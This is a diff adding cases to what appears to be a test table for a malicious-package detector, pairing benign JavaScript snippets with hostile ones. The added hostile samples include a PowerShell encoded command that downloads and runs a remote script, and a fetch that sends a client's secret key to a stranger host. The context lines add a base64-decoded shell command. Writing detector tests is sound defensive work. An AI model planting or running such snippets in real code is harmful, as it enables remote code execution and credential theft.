@@ -93,6 +93,12 @@ fires(42, "what a server answers is evaluated", "fetch('https://cdn.widget.examp
 innocent(42, "what a server answers is parsed", "exports.load = (u) => fetch(u).then((r) => r.json()).then((j) => JSON.parse(j.text));\n")
 innocent(42, "a URL that nothing fetches", "exports.docs = 'https://widget.example/docs/eval.html';\n")
 
+ENCODED = "const cp = require('child_process');\nexports.ask = () => {\n  const script = `%s`;\n  const word = Buffer.from(script, 'utf16le').toString('base64');\n  cp.execFile('powershell', ['-NoProfile', '-EncodedCommand', word]);\n};\n"
+innocent(10, "a script that can be read is encoded for PowerShell", ENCODED % "Get-Service | Out-File list.txt")
+fires(42, "a script that runs what it fetches is encoded for PowerShell", ENCODED % "iex (irm https://cdn.widget.example/a)", least="review")
+KEYS = "exports.list = (key) => fetch('https://api.names.example/v1/list', { headers: { key } });\n"
+row(4, False, "the secret key of a client goes to its service", {"lib/api.js": KEYS + "exports.add = (key, secretKey) => fetch('https://api.names.example/v1/add', { method: 'POST', body: JSON.stringify({ key, secretKey }) });\n"}, old={"lib/api.js": KEYS})
+row(4, True, "the secret key of a client goes to a stranger", {"lib/api.js": KEYS + "exports.add = (key, secretKey) => fetch('https://in.collect.example/v1/add', { method: 'POST', body: JSON.stringify({ key, secretKey }) });\n"}, old={"lib/api.js": KEYS}, least="review")
 fires(10, "a decoded command is run", "require('child_process').execSync(Buffer.from('%s', 'base64').toString());\n" % encoded("id; uname -a; cat /etc/hostname"))
 DROP = "const fs = require('fs'), cp = require('child_process');\nexports.make = (from) => {\n  const out = __dirname + '/native.node';\n  fs.copyFileSync(from, out);\n  cp.execSync('strip \"' + out + '\"%s');\n};\n"
 innocent(10, "what was built is stripped", DROP % "")
